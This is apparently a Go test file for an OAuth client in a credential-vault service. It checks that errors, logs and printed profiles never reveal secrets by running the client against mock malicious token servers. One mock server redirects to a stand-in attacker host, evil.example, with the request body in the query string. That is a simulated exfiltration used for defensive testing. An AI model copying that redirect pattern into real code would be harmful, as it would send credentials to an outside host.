package oauth_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/ferrule-dev/ferrule/pkg/fault"
	"github.com/ferrule-dev/ferrule/pkg/secret"
	"github.com/ferrule-dev/ferrule/services/credential-vault/internal/oauth"
)

// canaries are secrets with all that makes them hard to find again.
var canaries = []string{
	"canary-secret/+= ü&1", "canary-code.ABCDEFGH", "canary-refresh~12345678", "canary-password \"quoted\"", "canary-subject_87654321",
	"canary-api%20key", "canary-verifier-0123456789-0123456789-0123456789", "canary-device-1234567",
}

// shapes returns how a secret may come back.
func shapes(canary string) []string {
	b := []byte(canary)
	return []string{
		canary, url.QueryEscape(canary), url.PathEscape(canary), strings.ToLower(url.QueryEscape(canary)),
		base64.StdEncoding.EncodeToString(b), base64.URLEncoding.EncodeToString(b), base64.RawURLEncoding.EncodeToString(b),
		canary[:12], canary[len(canary)-12:],
	}
}

// everything returns all that an error says, to anybody.
func everything(err error) string {
	var out strings.Builder
	for e := err; e != nil; e = errors.Unwrap(e) {
		fmt.Fprintf(&out, "%s\n%v\n%+v\n%#v\n%q\n", e, e, e, e, e)
	}
	f := fault.From(err)
	fmt.Fprintln(&out, f.Meta(), f.Message(), f.Unwrap(), f.Violations())
	if e, ok := errors.AsType[*oauth.Error](err); ok {
		fmt.Fprintln(&out, e.Code, e.Description, e.Host, e.Cause)
		encoded, _ := json.Marshal(e)
		out.Write(encoded)
	}
	var logged bytes.Buffer
	slog.New(slog.NewJSONHandler(&logged, nil)).Error("failed", "err", err)
	out.Write(logged.Bytes())
	return out.String()
}

// echo answers with all that it was sent, in many ways, where errors say something.
func echo(status int, shape func(raw string) string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		raw := r.URL.RawQuery + " " + string(body) + " " + r.Header.Get("Authorization")
		for _, canary := range canaries {
			raw += " " + strings.Join(shapes(canary), " ")
		}
		w.Header().Set("WWW-Authenticate", `Bearer error="`+strings.ReplaceAll(raw, `"`, "")+`"`)
		w.WriteHeader(status)
		_, _ = io.WriteString(w, shape(raw))
	}
}

func TestNoErrorTellsASecret(t *testing.T) {
	quote := func(s string) string {
		quoted, _ := json.Marshal(s)
		return string(quoted)
	}
	hostile := map[string]http.HandlerFunc{
		"a description":    echo(400, func(raw string) string { return `{"error":"invalid_grant","error_description":` + quote(raw) + `}` }),
		"a code":           echo(400, func(raw string) string { return `{"error":` + quote(raw) + `}` }),
		"an object":        echo(401, func(raw string) string { return `{"error":{"code":` + quote(raw) + `,"message":` + quote(raw) + `}}` }),
		"a list":           echo(403, func(raw string) string { return `{"errors":[` + quote(raw) + `]}` }),
		"a form":           echo(200, func(raw string) string { return "error=x&error_description=" + url.QueryEscape(raw) }),
		"a page":           echo(500, func(raw string) string { return "<html>" + raw }),
		"text":             echo(200, func(raw string) string { return raw }),
		"only a challenge": echo(401, func(string) string { return "" }),
		"each word a code": echo(400, func(raw string) string {
			return `{"error":` + quote(strings.Fields(raw)[len(strings.Fields(raw))-1]) + `}`
		}),
		"a token of the echo": echo(200, func(raw string) string { return `{"access_token":` + quote(raw+"\n") + `}` }),
		"a redirect": func(w http.ResponseWriter, r *http.Request) {
			body, _ := io.ReadAll(r.Body)
			http.Redirect(w, r, "https://evil.example/?"+string(body), http.StatusFound)
		},
		"not HTTP at all": func(w http.ResponseWriter, r *http.Request) {
			body, _ := io.ReadAll(r.Body)
			hijacker, ok := w.(http.Hijacker)
			if !ok {
				return
			}
			conn, _, _ := hijacker.Hijack()
			_, _ = conn.Write(append([]byte(r.URL.RawQuery+" "), body...))
			_ = conn.Close()
		},
	}
	calls := map[string]func(ctx context.Context, c *oauth.Client, p *oauth.Profile) error{
		"exchange": func(ctx context.Context, c *oauth.Client, p *oauth.Profile) error {
			_, err := c.Exchange(ctx, p, text(canaries[1]), oauth.Attempt{State: "s", Verifier: text(canaries[6])})
			return err
		},
		"exchange by basic": func(ctx context.Context, c *oauth.Client, p *oauth.Profile) error {
			p.Client.Method = oauth.SecretBasic
			_, err := c.Exchange(ctx, p, text(canaries[1]), oauth.Attempt{State: "s", Verifier: text(canaries[6])})
			return err
		},
		"exchange by JSON": func(ctx context.Context, c *oauth.Client, p *oauth.Profile) error {
			p.JSONBody = true
			_, err := c.Exchange(ctx, p, text(canaries[1]), oauth.Attempt{State: "s", Verifier: text(canaries[6])})
			return err
		},
		"exchange by template": func(ctx context.Context, c *oauth.Client, p *oauth.Profile) error {
			p.Templates = &oauth.Templates{
				TokenQuery: "s={ClientSecret}&k={apiKey}&c={Code}", TokenBody: "s={ClientSecret}&k={apiKey}&c={Code}",
				Secrets: map[string]secret.Text{"apiKey": text(canaries[5])},
			}
			_, err := c.Exchange(ctx, p, text(canaries[1]), oauth.Attempt{State: "s", Verifier: text(canaries[6])})
			return err
		},
		"refresh": func(ctx context.Context, c *oauth.Client, p *oauth.Profile) error {
			_, err := c.Refresh(ctx, p, text(canaries[2]))
			return err
		},
		"password": func(ctx context.Context, c *oauth.Client, p *oauth.Profile) error {
			p.Grant, p.Username, p.Password = oauth.Password, "ada", text(canaries[3])
			_, err := c.Obtain(ctx, p)
			return err
		},
		"token exchange": func(ctx context.Context, c *oauth.Client, p *oauth.Profile) error {
			p.Grant = oauth.TokenExchange
			_, err := c.ExchangeSubject(ctx, p, text(canaries[4]))
			return err
		},
		"device": func(ctx context.Context, c *oauth.Client, p *oauth.Profile) error {
			_, err := c.PollDevice(ctx, p, text(canaries[7]))
			return err
		},
		"revocation": func(ctx context.Context, c *oauth.Client, p *oauth.Profile) error {
			return c.Revoke(ctx, p, oauth.Token{Access: text(canaries[1]), Refresh: text(canaries[2])})
		},
	}
	// What each call sends, so that only that has to be found and taken out.
	sends := map[string][]int{
		"exchange": {0, 1, 6}, "exchange by basic": {0, 1, 6}, "exchange by JSON": {0, 1, 6}, "exchange by template": {0, 1, 5, 6},
		"refresh": {0, 2}, "password": {0, 3}, "token exchange": {0, 4}, "device": {0, 7}, "revocation": {0, 2},
	}
	for kind, answer := range hostile {
		for name, do := range calls {
			t.Run(name+" gets "+kind, func(t *testing.T) {
				server := newProvider(t, answer)
				server.Config.Handler = answer // it reads the body itself
				p := server.profile()
				p.Client.Secret = text(canaries[0])
				err := do(t.Context(), newClient(t), p)
				if (err == nil || errors.Is(err, oauth.ErrNothingToRevoke)) && (name == "revocation" || strings.Contains(kind, "token")) {
					return
				}
				told := everything(err)
				for _, i := range sends[name] {
					for _, shape := range shapes(canaries[i]) {
						if strings.Contains(told, shape) {
							t.Errorf("%q is told:\n%s", shape, told)
						}
					}
				}
				if got := failed(t, err); len(got.Description) > 300 || strings.ContainsAny(got.Description, "\r\n\x00") || len(got.Code) > 64 {
					t.Errorf("the description is %q, the code %q", got.Description, got.Code)
				}
			})
		}
	}
}

func TestProfilesAndTokensPrintNoSecret(t *testing.T) {
	p := &oauth.Profile{
		Client:   oauth.Registration{ID: "app", Secret: text(canaries[0]), PrivateKey: text(canaries[1]), Certificate: text(canaries[2])},
		Password: text(canaries[3]), Refreshing: text(canaries[4]), Assertion: oauth.Assertion{Key: text(canaries[5])},
		Templates: &oauth.Templates{Secrets: map[string]secret.Text{"x": text(canaries[6])}},
	}
	values := []any{p, *p, oauth.Token{Access: text(canaries[0]), Refresh: text(canaries[1])}, oauth.Attempt{Verifier: text(canaries[6])}, oauth.Device{Code: text(canaries[7])}}
	for _, value := range values {
		encoded, _ := json.Marshal(value)
		told := fmt.Sprintf("%v %+v %#v %s", value, value, value, encoded)
		for _, canary := range canaries {
			if strings.Contains(told, canary) {
				t.Errorf("%T tells %q", value, canary)
			}
		}
	}
}
